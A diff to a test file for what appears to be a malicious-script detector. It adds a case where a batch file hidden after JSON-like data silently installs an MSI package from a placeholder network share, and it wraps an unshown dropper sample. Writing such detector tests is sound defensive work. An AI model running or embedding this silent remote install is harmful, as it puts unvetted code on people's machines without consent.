@@ -31,6 +31,10 @@ const DROPPER =
 
 suite('a script that starts programs', () => {
   test('in VBScript', () => has(packed('a.vbs', VBS), 'Script.Program'))
+  test('under the name of another language after what looks like data', () => {
+    has(packed('a.bat', `{"a":1}\r\n@echo off\r\nmsiexec /q /i \\\\files.example\\a\\b.msi\r\n`), 'Script.Program')
+    has(packed('a.txt', `{"use strict";\n${DROPPER}}`), 'Script.Dropper')
+  })
   test('in VBScript without a name', () => has(Buffer.from(VBS), 'Script.Program'))
   test('from joined pieces', () => {
     has(
